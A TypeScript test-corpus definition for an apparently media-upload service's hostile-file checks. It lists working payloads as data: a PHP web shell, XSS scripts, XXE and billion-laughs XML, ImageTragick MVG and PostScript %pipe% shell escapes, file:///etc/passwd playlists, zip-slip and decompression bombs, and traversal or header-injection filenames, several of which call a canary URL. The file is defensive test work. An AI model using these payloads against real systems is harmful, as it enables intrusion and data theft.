import { createHash } from 'node:crypto';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { crc32 } from 'node:zlib';
import sharp from 'sharp';
import {
  bmp,
  deflateZeros,
  elfExecutable,
  gifWithHeader,
  jpegWithHeader,
  pdf,
  peExecutable,
  pngWithHeader,
  tiffWithHeader,
  webpWithHeader,
  withAbsurdDuration,
  withBadChunkCrc,
  withoutIndex,
  withSampleRate,
  zip,
  zipEntry,
} from './bytes.js';
import type { CorpusCase, ResolvedOptions } from './types.js';

// A data table: one entry per corpus case (what it is, how it is made, what must happen to it), kept
// in one list so that the whole corpus reads top to bottom; it is longer than a module of code would be.

/** The script every "active content" payload carries; its marker must never reach a rendition. */
export const XSS_MARKER = 'mf-corpus-xss';
const XSS = `<script>alert("${XSS_MARKER}")</script>`;

/** Written as the photographer/artist; as personal as a location, so it must be gone too. */
const ARTIST_MARKER = 'mf-corpus-artist';

/** The place every location tag points at (the Eiffel Tower). */
const GPS_TAGS = ['GPSLatitude=48.8584', 'GPSLatitudeRef=N', 'GPSLongitude=2.2945', 'GPSLongitudeRef=E', 'GPSAltitude=35', 'GPSAltitudeRef=0'];

/** What no rendition of a file with hostile metadata may contain, byte for byte. */
const IMAGE_METADATA_BYTES = [XSS_MARKER, '<script', ARTIST_MARKER, '<x:xmpmeta', 'http://ns.adobe.com/xap/1.0/', 'Exif\0\0'];

/** What a case's generator gets: the options, a scratch folder, and the tools. */
export interface MakeContext {
  options: ResolvedOptions;
  work: string;
  /** Runs ffmpeg in the scratch folder. */
  ffmpeg(args: readonly string[]): Promise<void>;
  /** Writes tags into a file of the scratch folder with exiftool and returns its new bytes. */
  exif(file: string, tags: readonly string[]): Promise<Buffer>;
  /** A 64x48 picture that no other case shares (the product drops a second copy as a duplicate). */
  photo(seed: number, format: 'jpeg' | 'png' | 'webp' | 'tiff' | 'avif', alpha?: boolean): Promise<Buffer>;
  /** Runs `make` once per key and shares its result (the base clips several cases start from). */
  once<T>(key: string, make: () => Promise<T>): Promise<T>;
}

export interface CaseDefinition extends CorpusCase {
  /** Extension of the generated file on disk (its name there is safe; `uploadName` is not). */
  ext: string;
  make(ctx: MakeContext): Promise<Uint8Array>;
}

const MEGABYTE = 1024 * 1024;

/** How far the oversized image goes past the image limit: enough that no rounding lets it through. */
const OVERSIZE_BYTES = 3 * MEGABYTE;

/** A web shell: runs whatever the `c` query parameter says on a server that hands the file to PHP. */
const PHP_SHELL = '<?php system($_GET["c"]); ?>\n';
const SERVER_SCRIPT = /server-side scripts \(PHP, ASP, JSP and the like\) are not accepted/;

/** A one-second 64x48 H.264/AAC clip, its index at the end (as a camera writes it) or at the start. */
async function clip(ctx: MakeContext, layout: 'index-last' | 'index-first', metadata: readonly string[] = []): Promise<Buffer> {
  const name = `clip-${layout}-${createHash('sha256').update(JSON.stringify(metadata)).digest('hex').slice(0, 12)}.mp4`;
  return ctx.once(name, async () => {
    await ctx.ffmpeg([
      '-f', 'lavfi', '-i', 'testsrc2=s=64x48:r=25:d=1', '-f', 'lavfi', '-i', 'sine=frequency=440:duration=1',
      '-c:v', 'libx264', '-preset', 'ultrafast', '-pix_fmt', 'yuv420p', '-c:a', 'aac', '-shortest',
      ...metadata.flatMap((m) => ['-metadata', m]),
      ...(layout === 'index-first' ? ['-movflags', '+faststart'] : []),
      name,
    ]);
    return readFile(join(ctx.work, name));
  });
}

/** One second of a tone in the given codec and container. */
async function tone(ctx: MakeContext, name: string, codec: readonly string[], frequency: number): Promise<Buffer> {
  return ctx.once(name, async () => {
    await ctx.ffmpeg(['-f', 'lavfi', '-i', `sine=frequency=${frequency}:duration=1`, ...codec, name]);
    return readFile(join(ctx.work, name));
  });
}

/** A distinct valid JPEG for the hostile-name cases: the name is the attack, not the bytes. */
const namedPhoto = (seed: number) => (ctx: MakeContext) => ctx.photo(seed, 'jpeg');

const text = (content: string) => async (): Promise<Uint8Array> => Buffer.from(content, 'utf8');

/**
 * Every case of the corpus. Upload names of the non-`filename` cases are what a person (or an
 * attacker) would plausibly call the file; the product must decide from the bytes alone.
 */
export function caseDefinitions(o: ResolvedOptions): CaseDefinition[] {
  const url = o.canaryUrl.endsWith('/') ? o.canaryUrl : `${o.canaryUrl}/`;
  return [
    // --- valid files of every kind -------------------------------------------------------------
    {
      name: 'valid/jpeg', group: 'valid', ext: 'jpg', uploadName: 'photo.jpg',
      why: 'baseline JPEG (sharp, mozjpeg)',
      expect: { outcome: 'ready', kind: 'image' },
      make: (ctx) => ctx.photo(1, 'jpeg'),
    },
    {
      name: 'valid/png-alpha', group: 'valid', ext: 'png', uploadName: 'logo.png',
      why: 'PNG with an alpha channel',
      expect: { outcome: 'ready', kind: 'image' },
      make: (ctx) => ctx.photo(2, 'png', true),
    },
    {
      name: 'valid/webp', group: 'valid', ext: 'webp', uploadName: 'sticker.webp',
      why: 'lossy WebP',
      expect: { outcome: 'ready', kind: 'image' },
      make: (ctx) => ctx.photo(3, 'webp'),
    },
    {
      name: 'valid/gif-animated', group: 'valid', ext: 'gif', uploadName: 'loop.gif',
      why: 'animated GIF, three frames',
      expect: { outcome: 'ready', kind: 'image' },
      make: async () => {
        const frames = await Promise.all(
          [0, 1, 2].map((i) => sharp({ create: { width: 64, height: 48, channels: 4, background: { r: 40 + i * 90, g: 120, b: 200 - i * 60, alpha: 1 } } }).png().toBuffer()),
        );
        return sharp(frames, { join: { animated: true } }).gif({ delay: [100, 100, 100], loop: 0 }).toBuffer();
      },
    },
    {
      name: 'valid/tiff', group: 'valid', ext: 'tiff', uploadName: 'scan.tiff',
      why: 'baseline TIFF',
      expect: { outcome: 'ready', kind: 'image' },
      make: (ctx) => ctx.photo(4, 'tiff'),
    },
    {
      name: 'valid/avif', group: 'valid', ext: 'avif', uploadName: 'phone.avif',
      why: 'AVIF (AV1 in HEIF)',
      expect: { outcome: 'ready', kind: 'image' },
      make: (ctx) => ctx.photo(5, 'avif'),
    },
    {
      name: 'valid/mp4', group: 'valid', ext: 'mp4', uploadName: 'clip.mp4',
      why: 'H.264/AAC MP4, 1 s, index at the end as cameras write it',
      expect: { outcome: 'ready', kind: 'video', metadataFree: true },
      make: (ctx) => clip(ctx, 'index-last'),
    },
    {
      name: 'valid/webm', group: 'valid', ext: 'webm', uploadName: 'clip.webm',
      why: 'VP8/Opus WebM, 1 s',
      expect: { outcome: 'ready', kind: 'video', metadataFree: true },
      make: (ctx) =>
        ctx.once('clip.webm', async () => {
          await ctx.ffmpeg([
            '-f', 'lavfi', '-i', 'testsrc2=s=64x48:r=25:d=1', '-f', 'lavfi', '-i', 'sine=frequency=550:duration=1',
            '-c:v', 'libvpx', '-b:v', '200k', '-c:a', 'libopus', '-shortest', 'clip.webm',
          ]);
          return readFile(join(ctx.work, 'clip.webm'));
        }),
    },
    {
      name: 'valid/mp3', group: 'valid', ext: 'mp3', uploadName: 'tone.mp3',
      why: 'MP3, 1 s',
      expect: { outcome: 'ready', kind: 'audio', metadataFree: true },
      make: (ctx) => tone(ctx, 'tone.mp3', ['-c:a', 'libmp3lame', '-b:a', '64k'], 330),
    },
    {
      name: 'valid/wav', group: 'valid', ext: 'wav', uploadName: 'tone.wav',
      why: '16-bit PCM WAV, 1 s',
      expect: { outcome: 'ready', kind: 'audio', metadataFree: true },
      make: (ctx) => tone(ctx, 'tone.wav', ['-c:a', 'pcm_s16le'], 440),
    },
    {
      name: 'valid/flac', group: 'valid', ext: 'flac', uploadName: 'tone.flac',
      why: 'FLAC, 1 s',
      expect: { outcome: 'ready', kind: 'audio', metadataFree: true },
      make: (ctx) => tone(ctx, 'tone.flac', ['-c:a', 'flac'], 523),
    },
    {
      name: 'valid/ogg-opus', group: 'valid', ext: 'opus', uploadName: 'tone.opus',
      why: 'Opus in Ogg, 1 s',
      expect: { outcome: 'ready', kind: 'audio', metadataFree: true },
      make: (ctx) => tone(ctx, 'tone.opus', ['-c:a', 'libopus', '-b:a', '48k', '-f', 'ogg'], 660),
    },
    {
      name: 'valid/text', group: 'valid', ext: 'txt', uploadName: 'notes.txt',
      why: 'plain UTF-8 text: a document kept as it is',
      expect: { outcome: 'ready', kind: 'document' },
      make: text('Meeting notes\n- bring the slides\n- book the room for Thursday\n'),
    },
    {
      name: 'valid/bmp', group: 'valid', ext: 'bmp', uploadName: 'icon.bmp',
      why: 'BMP: a kind with no pipeline, kept as it is',
      expect: { outcome: 'ready', kind: 'other' },
      make: async () => bmp(4, 3, 7),
    },

    // --- hostile metadata in otherwise valid files ------------------------------------------
    {
      name: 'metadata/jpeg-gps-xmp-script', group: 'metadata', ext: 'jpg', uploadName: 'holiday.jpg',
      why: 'JPEG with EXIF GPS, an XMP description, an EXIF description and a COM comment that are <script>',
      expect: { outcome: 'ready', kind: 'image', mustNotContain: IMAGE_METADATA_BYTES, noLocation: true, metadataFree: true },
      make: async (ctx) => {
        await writeScratch(ctx, 'meta.jpg', await ctx.photo(10, 'jpeg'));
        return ctx.exif('meta.jpg', [...GPS_TAGS, `Comment=${XSS}`, `XMP-dc:Description=${XSS}`, `EXIF:ImageDescription=${XSS}`, `EXIF:Artist=${ARTIST_MARKER}`]);
      },
    },
    {
      name: 'metadata/png-exif-xmp-text', group: 'metadata', ext: 'png', uploadName: 'screenshot.png',
      why: 'PNG with an eXIf GPS block, XMP and a tEXt comment that are <script>',
      expect: { outcome: 'ready', kind: 'image', mustNotContain: IMAGE_METADATA_BYTES, noLocation: true, metadataFree: true },
      make: async (ctx) => {
        await writeScratch(ctx, 'meta.png', await ctx.photo(11, 'png'));
        return ctx.exif('meta.png', [...GPS_TAGS, `PNG:Comment=${XSS}`, `XMP-dc:Description=${XSS}`, `EXIF:Artist=${ARTIST_MARKER}`]);
      },
    },
    {
      name: 'metadata/webp-exif-xmp', group: 'metadata', ext: 'webp', uploadName: 'shared.webp',
      why: 'WebP with EXIF GPS and an XMP description that is <script>',
      expect: { outcome: 'ready', kind: 'image', mustNotContain: IMAGE_METADATA_BYTES, noLocation: true, metadataFree: true },
      make: async (ctx) => {
        await writeScratch(ctx, 'meta.webp', await ctx.photo(12, 'webp'));
        return ctx.exif('meta.webp', [...GPS_TAGS, `XMP-dc:Description=${XSS}`, `EXIF:Artist=${ARTIST_MARKER}`]);
      },
    },
    {
      name: 'metadata/mp4-location-script', group: 'metadata', ext: 'mp4', uploadName: 'walk.mp4',
      why: 'MP4 with a location (loci) and title/comment tags that are <script>',
      expect: { outcome: 'ready', kind: 'video', mustNotContain: [XSS_MARKER, '<script', 'loci', '\xa9xyz', ARTIST_MARKER], noLocation: true, metadataFree: true },
      make: (ctx) => clip(ctx, 'index-first', ['location=+48.8584+002.2945/', `comment=${XSS}`, `title=${XSS}`, `artist=${ARTIST_MARKER}`]),
    },
    {
      name: 'metadata/mp3-id3-script-cover-gps', group: 'metadata', ext: 'mp3', uploadName: 'song.mp3',
      why: 'MP3 whose ID3 title and comment are <script> and whose cover JPEG carries GPS and XMP',
      expect: { outcome: 'ready', kind: 'audio', mustNotContain: [XSS_MARKER, '<script', ARTIST_MARKER, '<x:xmpmeta', 'Exif\0\0'], noLocation: true, metadataFree: true },
      make: async (ctx) => {
        await writeScratch(ctx, 'cover.jpg', await ctx.photo(13, 'jpeg'));
        await ctx.exif('cover.jpg', [...GPS_TAGS, `XMP-dc:Description=${XSS}`, `EXIF:Artist=${ARTIST_MARKER}`]);
        await ctx.ffmpeg([
          '-f', 'lavfi', '-i', 'sine=frequency=392:duration=1', '-i', 'cover.jpg',
          '-map', '0:a', '-map', '1:v', '-c:a', 'libmp3lame', '-b:a', '64k', '-c:v', 'copy', '-disposition:v', 'attached_pic', '-id3v2_version', '3',
          '-metadata', `title=${XSS}`, '-metadata', `comment=${XSS}`, '-metadata', `artist=${ARTIST_MARKER}`, 'song.mp3',
        ]);
        return readFile(join(ctx.work, 'song.mp3'));
      },
    },

    // --- malformed -------------------------------------------------------------------------------
    {
      name: 'malformed/empty', group: 'malformed', ext: 'jpg', uploadName: 'empty.jpg',
      why: 'zero bytes',
      expect: { outcome: 'rejected', reasonMatches: /size/i },
      make: async () => new Uint8Array(0),
    },
    {
      name: 'malformed/jpeg-truncated-header', group: 'malformed', ext: 'jpg', uploadName: 'cut.jpg',
      why: 'JPEG cut off inside its quantisation tables, before the frame header',
      expect: { outcome: 'failed', kind: 'image', reasonMatches: /truncated|no frame header/i },
      make: async (ctx) => (await ctx.photo(20, 'jpeg')).subarray(0, 40),
    },
    {
      name: 'malformed/jpeg-truncated-scan', group: 'malformed', ext: 'jpg', uploadName: 'half.jpg',
      why: 'JPEG cut off half way through its image data',
      // libvips keeps one error buffer for all its threads: when two decodes fail at once, one of
      // them may find it emptied and report "Unknown error". Either way the item fails as corrupt.
      expect: { outcome: 'failed', kind: 'image', reasonMatches: /premature end|truncated|decoding the image failed/i },
      make: async (ctx) => {
        const whole = await ctx.photo(21, 'jpeg');
        return whole.subarray(0, Math.floor(whole.length / 2));
      },
    },
    {
      name: 'malformed/png-bad-header-crc', group: 'malformed', ext: 'png', uploadName: 'crc.png',
      why: 'PNG whose IHDR checksum does not match',
      expect: { outcome: 'failed', kind: 'image', reasonMatches: /CRC/ },
      make: async (ctx) => withBadChunkCrc(await ctx.photo(22, 'png'), 'IHDR'),
    },
    {
      name: 'malformed/png-bad-data-crc', group: 'malformed', ext: 'png', uploadName: 'crc-data.png',
      why: 'PNG whose IDAT checksum does not match',
      expect: { outcome: 'failed', kind: 'image', reasonMatches: /decoding the image failed/ },
      make: async (ctx) => withBadChunkCrc(await ctx.photo(23, 'png'), 'IDAT'),
    },
    {
      name: 'malformed/mp4-missing-index', group: 'malformed', ext: 'mp4', uploadName: 'recording.mp4',
      why: 'MP4 cut off before its moov box: samples without the index that locates them',
      expect: { outcome: 'failed', kind: 'video', reasonMatches: /not a recognised|moov|index|invalid/i },
      make: async (ctx) => withoutIndex(await clip(ctx, 'index-last')),
    },
    {
      name: 'malformed/mp4-absurd-duration', group: 'malformed', ext: 'mp4', uploadName: 'long.mp4',
      why: 'MP4 whose moov claims about 93 hours (sample, media, track, movie and edit durations) for one second of frames',
      expect: { outcome: 'failed', kind: 'video', reasonMatches: /duration.*exceeds the limit/i },
      make: async (ctx) => withAbsurdDuration(await clip(ctx, 'index-first')),
    },
    {
      name: 'malformed/wav-absurd-duration', group: 'malformed', ext: 'wav', uploadName: 'long.wav',
      why: 'WAV whose format chunk claims 1 sample per second: 44100 samples last 12 hours',
      expect: { outcome: 'failed', kind: 'audio', reasonMatches: /duration.*exceeds the limit/i },
      make: async (ctx) => withSampleRate(await tone(ctx, 'tone.wav', ['-c:a', 'pcm_s16le'], 440), 1),
    },

    // --- decompression and pixel bombs: refused from the header ----------------------------------
    {
      name: 'bomb/png-100000x100000', group: 'bomb', ext: 'png', uploadName: 'big.png',
      why: 'PNG header claiming 100000x100000 RGB (10 gigapixels) over a tiny IDAT',
      expect: { outcome: 'failed', kind: 'image', reasonMatches: /exceeds the limit/ },
      make: async () => pngWithHeader(100_000, 100_000, await deflateZeros(1024, 'zlib')),
    },
    {
      name: 'bomb/png-deflate', group: 'bomb', ext: 'png', uploadName: 'wallpaper.png',
      why: 'PNG 30000x30000 1-bit whose complete IDAT (about 110 KB) inflates to 112 MB',
      expect: { outcome: 'failed', kind: 'image', reasonMatches: /exceeds the limit/ },
      make: async () => pngWithHeader(30_000, 30_000, await deflateZeros(30_000 * (1 + 30_000 / 8), 'zlib'), { bitDepth: 1, colorType: 0 }),
    },
    {
      name: 'bomb/jpeg-65000x65000', group: 'bomb', ext: 'jpg', uploadName: 'panorama.jpg',
      why: 'JPEG frame header claiming 65000x65000 (4.2 gigapixels)',
      expect: { outcome: 'failed', kind: 'image', reasonMatches: /exceeds the limit/ },
      make: async () => jpegWithHeader(65_000, 65_000),
    },
    {
      name: 'bomb/gif-65535x65535', group: 'bomb', ext: 'gif', uploadName: 'reaction.gif',
      why: 'GIF screen and frame claiming 65535x65535',
      expect: { outcome: 'failed', kind: 'image', reasonMatches: /exceeds the limit/ },
      make: async () => gifWithHeader(65_535, 65_535),
    },
    {
      name: 'bomb/gif-frames', group: 'bomb', ext: 'gif', uploadName: 'animation.gif',
      why: 'GIF of 600 frames of 1000x1000 (600 megapixels to decode) in about 10 KB',
      expect: { outcome: 'failed', kind: 'image', reasonMatches: /exceeds the limit/ },
      make: async () => gifWithHeader(1000, 1000, 600),
    },
    {
      name: 'bomb/webp-16384x16384', group: 'bomb', ext: 'webp', uploadName: 'poster.webp',
      why: 'WebP VP8X header claiming 16384x16384 (268 megapixels)',
      expect: { outcome: 'failed', kind: 'image', reasonMatches: /exceeds the limit/ },
      make: async () => webpWithHeader(16_384, 16_384),
    },
    {
      name: 'bomb/tiff-100000x100000', group: 'bomb', ext: 'tiff', uploadName: 'scan.tif',
      why: 'TIFF directory claiming 100000x100000',
      expect: { outcome: 'failed', kind: 'image', reasonMatches: /exceeds the limit/ },
      make: async () => tiffWithHeader(100_000, 100_000),
    },
    {
      name: 'bomb/jpeg-over-size-limit', group: 'bomb', ext: 'jpg', uploadName: 'raw-scan.jpg',
      why: 'a photo padded with zeros to 3 MiB over the image size limit: refused at ingest, before anything reads it whole',
      expect: { outcome: 'rejected', failureCode: 'limit_exceeded', reasonMatches: /the limit for image files is \d+/ },
      make: async (ctx) => {
        const padded = Buffer.alloc(o.maxImageBytes + OVERSIZE_BYTES);
        (await ctx.photo(24, 'jpeg')).copy(padded);
        return padded;
      },
    },

    // --- disguised content: refused by sniffing, whatever the name --------------------------------
    {
      name: 'disguised/elf-as-jpeg', group: 'disguised', ext: 'bin', uploadName: 'holiday.jpg',
      why: 'Linux executable named .jpg',
      expect: { outcome: 'rejected', reasonMatches: /executables are not accepted/ },
      make: async () => elfExecutable(),
    },
    {
      name: 'disguised/pe-as-png', group: 'disguised', ext: 'bin', uploadName: 'invoice.png',
      why: 'Windows executable named .png',
      expect: { outcome: 'rejected', reasonMatches: /executables are not accepted/ },
      make: async () => peExecutable(),
    },
    {
      name: 'disguised/shell-script', group: 'disguised', ext: 'sh', uploadName: 'song.mp3',
      why: 'shell script that fetches the canary and prints the canary file',
      expect: { outcome: 'rejected', reasonMatches: /scripts are not accepted/ },
      make: text(`#!/bin/sh\ncurl -s '${url}sh' >/dev/null\ncat '${o.canaryFile}'\n`),
    },
    {
      name: 'disguised/html', group: 'disguised', ext: 'html', uploadName: 'photo.jpg',
      why: 'HTML page with an onerror handler and a script',
      expect: { outcome: 'rejected', reasonMatches: /HTML is not accepted/ },
      make: text(`<!DOCTYPE html>\n<html><body><img src=x onerror="fetch('${url}html')">${XSS}</body></html>\n`),
    },
    {
      name: 'disguised/html-bom-padded', group: 'disguised', ext: 'html', uploadName: 'readme.txt',
      why: 'HTML after a byte-order mark and blank lines, starting with <script>',
      expect: { outcome: 'rejected', reasonMatches: /HTML is not accepted/ },
      make: text(`\ufeff\n\n   ${XSS}\n<p>hello</p>\n`),
    },
    {
      name: 'disguised/svg-script', group: 'disguised', ext: 'svg', uploadName: 'logo.svg',
      why: 'SVG with an onload handler and a <script>',
      expect: { outcome: 'rejected', reasonMatches: /SVG is not accepted/ },
      make: text(`<svg xmlns="http://www.w3.org/2000/svg" width="64" height="48" onload="fetch('${url}svg')">${XSS}<rect width="64" height="48"/></svg>\n`),
    },
    {
      name: 'disguised/svg-external-entity', group: 'disguised', ext: 'svg', uploadName: 'chart.png',
      why: 'SVG whose DOCTYPE declares external entities (the canary file and URL)',
      expect: { outcome: 'rejected', reasonMatches: /SVG is not accepted|XML is not accepted/ },
      make: text(
        `<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE svg [\n  <!ENTITY secret SYSTEM "file://${o.canaryFile}">\n  <!ENTITY remote SYSTEM "${url}xxe">\n]>\n` +
          `<svg xmlns="http://www.w3.org/2000/svg" width="64" height="48"><text x="0" y="20">&secret;&remote;</text></svg>\n`,
      ),
    },
    {
      name: 'disguised/xml-billion-laughs', group: 'disguised', ext: 'xml', uploadName: 'data.xml',
      why: 'XML whose nested entities expand to 10^9 strings',
      expect: { outcome: 'rejected', reasonMatches: /XML is not accepted/ },
      make: async () => {
        const levels = ['<!ENTITY lol0 "lol">'];
        for (let i = 1; i <= 9; i++) levels.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
        return Buffer.from(`<?xml version="1.0"?>\n<!DOCTYPE lolz [\n  ${levels.join('\n  ')}\n]>\n<lolz>&lol9;</lolz>\n`);
      },
    },
    {
      name: 'disguised/imagemagick-mvg', group: 'disguised', ext: 'mvg', uploadName: 'drawing.jpg',
      why: 'ImageMagick MVG (ImageTragick): url() to the canary, a shell escape, msl: and ephemeral: reads',
      expect: { outcome: 'rejected', reasonMatches: /ImageMagick vector scripts are not accepted/ },
      make: text(
        `push graphic-context\nviewbox 0 0 64 48\nfill 'url(${url}mvg.jpg"|curl -s "${url}mvg-shell)'\n` +
          `image over 0,0 0,0 'ephemeral:${o.canaryFile}'\nimage over 0,0 0,0 'msl:${o.canaryFile}'\npop graphic-context\n`,
      ),
    },
    {
      name: 'disguised/imagemagick-msl', group: 'disguised', ext: 'msl', uploadName: 'thumbnail.png',
      why: 'ImageMagick MSL script that reads the canary file and writes the tripwire',
      expect: { outcome: 'rejected', reasonMatches: /XML is not accepted/ },
      make: text(`<?xml version="1.0" encoding="UTF-8"?>\n<image>\n  <read filename="${o.canaryFile}" />\n  <write filename="${o.tripwireFile}" />\n</image>\n`),
    },
    {
      name: 'disguised/postscript-pipe', group: 'disguised', ext: 'ps', uploadName: 'flyer.pdf',
      why: 'PostScript whose %pipe% file would run a shell (touch the tripwire, fetch the canary)',
      expect: { outcome: 'rejected', reasonMatches: /PostScript is not accepted/ },
      make: text(`%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 64 48\n(%pipe%touch ${o.tripwireFile}; curl -s ${url}ps) (w) file closefile\nshowpage\n`),
    },
    {
      name: 'disguised/eps-binary-header', group: 'disguised', ext: 'eps', uploadName: 'logo.tiff',
      why: 'DOS EPS (binary header) wrapping the same %pipe% PostScript',
      expect: { outcome: 'rejected', reasonMatches: /PostScript is not accepted/ },
      make: async () => {
        const ps = Buffer.from(`%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%touch ${o.tripwireFile}) (w) file closefile\n`, 'latin1');
        const header = Buffer.alloc(30);
        Buffer.from([0xc5, 0xd0, 0xd3, 0xc6]).copy(header);
        header.writeUInt32LE(30, 4);
        header.writeUInt32LE(ps.length, 8);
        header.writeUInt16LE(0xffff, 28);
        return Buffer.concat([header, ps]);
      },
    },
    {
      name: 'disguised/hls-local-files', group: 'disguised', ext: 'm3u8', uploadName: 'movie.mp4',
      why: 'HLS playlist whose segments are file:///etc/passwd and the canary file',
      expect: { outcome: 'rejected', reasonMatches: /playlists are not accepted/ },
      make: text(
        `#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:1\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1.0,\nfile:///etc/passwd\n#EXTINF:1.0,\nfile://${o.canaryFile}\n#EXT-X-ENDLIST\n`,
      ),
    },
    {
      name: 'disguised/hls-remote-url', group: 'disguised', ext: 'm3u8', uploadName: 'stream.mp4',
      why: 'HLS master playlist pointing at a variant on the canary server',
      expect: { outcome: 'rejected', reasonMatches: /playlists are not accepted/ },
      make: text(`#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=200000,RESOLUTION=64x48\n${url}variant.m3u8\n`),
    },
    {
      name: 'disguised/ffconcat', group: 'disguised', ext: 'ffconcat', uploadName: 'edit.mp4',
      why: 'ffmpeg concat script naming the canary file and URL',
      expect: { outcome: 'rejected', reasonMatches: /concat scripts are not accepted/ },
      make: text(`ffconcat version 1.0\nfile '${o.canaryFile}'\nfile '${url}concat.mp4'\n`),
    },
    {
      name: 'disguised/sdp', group: 'disguised', ext: 'sdp', uploadName: 'call.mp4',
      why: 'SDP session description (would make ffmpeg listen for RTP)',
      expect: { outcome: 'rejected', reasonMatches: /SDP session descriptions are not accepted/ },
      make: text('v=0\no=- 0 0 IN IP4 127.0.0.1\ns=corpus\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio 5004 RTP/AVP 96\na=rtpmap:96 opus/48000/2\n'),
    },
    {
      name: 'disguised/php-shell', group: 'disguised', ext: 'php', uploadName: 'shell.php.jpg',
      why: 'PHP web shell named .php.jpg, which some web servers hand to PHP',
      expect: { outcome: 'rejected', failureCode: 'unsupported', reasonMatches: SERVER_SCRIPT },
      make: text(PHP_SHELL),
    },
    {
      name: 'disguised/php-shell-gif-header', group: 'disguised', ext: 'gif', uploadName: 'shell.php.gif',
      why: 'the same PHP web shell behind a GIF signature (GIF89a<?php ...), which passes a check of the first bytes',
      expect: { outcome: 'rejected', failureCode: 'unsupported', reasonMatches: SERVER_SCRIPT },
      make: text(`GIF89a${PHP_SHELL}`),
    },
    {
      name: 'disguised/gif-html-polyglot', group: 'disguised', ext: 'gif', uploadName: 'funny.gif',
      why: 'a GIF header followed by HTML instead of frames: stored, but never decodable and never served as a page',
      expect: { outcome: 'failed', kind: 'image', reasonMatches: /(reading the image header|decoding the image) failed/ },
      make: async () => Buffer.concat([gifWithHeader(64, 48, 0).subarray(0, 19), Buffer.from(`<html><body>${XSS}</body></html>`)]),
    },

    // --- archives and PDFs: kept as opaque attachments ---------------------------------------------
    {
      name: 'opaque/zip-slip', group: 'opaque', ext: 'zip', uploadName: 'photos.zip',
      why: 'ZIP with a photo, a note and an entry named ../../corpus-zip-slip.sh',
      expect: { outcome: 'ready', kind: 'document' },
      make: async (ctx) =>
        zip([
          zipEntry('photo.jpg', await ctx.photo(30, 'jpeg'), 0),
          zipEntry('notes.txt', Buffer.from('three photos from the trip\n')),
          zipEntry('../../corpus-zip-slip.sh', Buffer.from(`#!/bin/sh\ncurl -s '${url}zip'\n`)),
        ]),
    },
    {
      name: 'opaque/zip-nested-bomb', group: 'opaque', ext: 'zip', uploadName: 'backup.zip',
      why: 'ZIP of 8 ZIPs, each holding 32 MB of zeros deflated: 256 MB from about 260 KB',
      expect: { outcome: 'ready', kind: 'document' },
      make: async () => {
        const size = 32 * MEGABYTE;
        const zeros = await deflateZeros(size, 'raw');
        const inner = zip([{ name: 'zeros.bin', data: zeros, method: 8, crc: zerosCrc(size), size }]);
        return zip(Array.from({ length: 8 }, (_, i) => zipEntry(`layer-${i + 1}.zip`, inner, 0)));
      },
    },
    {
      name: 'opaque/gzip-bomb', group: 'opaque', ext: 'gz', uploadName: 'logs.gz',
      why: 'gzip of 64 MB of zeros (about 64 KB)',
      expect: { outcome: 'ready', kind: 'document' },
      make: async () => deflateZeros(64 * MEGABYTE, 'gzip'),
    },
    {
      name: 'opaque/pdf', group: 'opaque', ext: 'pdf', uploadName: 'letter.pdf',
      why: 'minimal valid one-page PDF',
      expect: { outcome: 'ready', kind: 'document' },
      make: async () => pdf(),
    },
    {
      name: 'opaque/pdf-javascript', group: 'opaque', ext: 'pdf', uploadName: 'form.pdf',
      why: 'PDF with an OpenAction JavaScript that alerts and opens the canary URL',
      expect: { outcome: 'ready', kind: 'document' },
      make: async () =>
        pdf({
          catalogExtra: '/OpenAction 5 0 R /Names << /JavaScript << /Names [(corpus) 5 0 R] >> >> ',
          extra: [`<< /S /JavaScript /JS (app.alert\\("${XSS_MARKER}"\\); app.launchURL\\("${url}pdf"\\);) >>`],
        }),
    },

    // --- hostile file names on valid photos --------------------------------------------------------
    {
      name: 'filename/path-traversal', group: 'filename', ext: 'jpg', uploadName: '../../etc/passwd',
      why: 'a path that climbs out of any folder',
      expect: { outcome: 'ready', kind: 'image', filename: 'passwd' },
      make: namedPhoto(40),
    },
    {
      name: 'filename/windows-path', group: 'filename', ext: 'jpg', uploadName: '..\\..\\windows\\win.ini',
      why: 'a Windows path that climbs out of any folder',
      expect: { outcome: 'ready', kind: 'image', filename: 'win.ini' },
      make: namedPhoto(41),
    },
    {
      name: 'filename/html-injection', group: 'filename', ext: 'jpg', uploadName: '<img src=x onerror=alert(1)>.jpg',
      why: 'markup in the name',
      expect: { outcome: 'ready', kind: 'image', filename: '_img src=x onerror=alert(1)_.jpg' },
      make: namedPhoto(42),
    },
    {
      name: 'filename/300-bytes', group: 'filename', ext: 'jpg', uploadName: `${'a'.repeat(296)}.jpg`,
      why: 'a 300-byte name (longer than most file systems allow)',
      expect: { outcome: 'ready', kind: 'image', filename: `${'a'.repeat(196)}.jpg` },
      make: namedPhoto(43),
    },
    {
      name: 'filename/nul', group: 'filename', ext: 'jpg', uploadName: 'photo\u0000.php.jpg',
      why: 'a NUL byte, which C code reads as the end of the name',
      expect: { outcome: 'ready', kind: 'image', filename: 'photo.php.jpg' },
      make: namedPhoto(44),
    },
    {
      name: 'filename/rtl-override', group: 'filename', ext: 'jpg', uploadName: 'invoice\u202egpj.exe',
      why: 'a right-to-left override that shows "invoiceexe.jpg"',
      expect: { outcome: 'ready', kind: 'image', filename: 'invoicegpj.exe' },
      make: namedPhoto(45),
    },
    {
      name: 'filename/header-injection', group: 'filename', ext: 'jpg', uploadName: 'photo.jpg\r\nSet-Cookie: session=stolen',
      why: 'CR LF in the name, to split a Content-Disposition header',
      expect: { outcome: 'ready', kind: 'image', filename: 'photo.jpgSet-Cookie_ session=stolen' },
      make: namedPhoto(46),
    },
    {
      name: 'filename/device-name', group: 'filename', ext: 'jpg', uploadName: 'CON.jpg',
      why: 'a Windows device name',
      expect: { outcome: 'ready', kind: 'image', filename: '_CON.jpg' },
      make: namedPhoto(47),
    },
  ];
}

function writeScratch(ctx: MakeContext, name: string, bytes: Uint8Array): Promise<void> {
  return writeFile(join(ctx.work, name), bytes);
}

/** CRC-32 of `length` zero bytes, computed in slices so that they are never all in memory. */
